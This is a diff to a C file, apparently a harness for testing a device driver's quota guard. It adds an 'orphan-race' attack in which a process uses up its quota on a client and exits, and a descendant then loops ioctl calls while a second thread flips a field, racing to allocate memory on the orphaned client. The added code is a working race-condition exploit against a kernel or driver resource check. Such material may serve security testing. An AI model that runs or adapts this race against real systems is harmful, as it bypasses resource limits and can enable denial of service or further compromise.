@@ -129,6 +129,58 @@ void attack_heir_race (int argc, char **argv)
     hold ();
 }
 
+/* Wins one piece of so many bytes, on a client of a process that has ended. */
+static void race_for_orphan (struct bed *bed, pid_t maker, uint64_t size)
+{
+    struct memory params = memory_of (size);
+    struct alloc call = { bed->client, bed->device, 0, 0x80, (uintptr_t) &params, 0, 0, 0, 0xffff, 0 };
+    struct flip flip = { &call.number, { 0x80, 0x40 }, false };
+    pthread_t thread;
+
+    while (getppid () == maker)
+        usleep (1000);
+    usleep (500000); /* until the guard knows that it has ended */
+    pthread_create (&thread, NULL, flipping, &flip);
+    do {
+        call.object = bed->next++;
+        call.status = 0xffff;
+    } while (ioctl (bed->file, REQUEST (0x2b, sizeof (call)), &call) != 0 || call.status != 0);
+}
+
+/* orphan-race MIB: a process makes a client, uses the quota up and ends. A child of its wins a piece of so many MiB on that client and ends at once;
+ * another one, which makes no call, has the file until this process ends. */
+void attack_orphan_race (int argc, char **argv)
+{
+    uint64_t size = (uint64_t) (argc > 0 ? atoi (argv[0]) : 64) * MIB;
+    int told[2], alive[2];
+    char won = 0;
+
+    if (pipe (told) != 0 || pipe (alive) != 0)
+        exit (4);
+    if (fork () == 0) {
+        struct bed bed = bed_open ();
+        pid_t maker = getpid ();
+        uint32_t handle;
+
+        close (alive[1]);
+        while (bed_memory (&bed, &handle, 64 * MIB) == 0)
+            continue;
+        if (fork () == 0) {
+            close (told[1]);
+            (void) !read (alive[0], &won, 1);
+            _exit (0);
+        }
+        if (fork () == 0) {
+            race_for_orphan (&bed, maker, size);
+            _exit (write (told[1], "w", 1) != 1);
+        }
+        _exit (0);
+    }
+    close (told[1]);
+    say ("won", read (told[0], &won, 1) == 1);
+    hold ();
+}
+
 /* An event, which the guard makes. */
 void attack_event_race (int argc, char **argv) { race (0x79, argc, argv); }
 
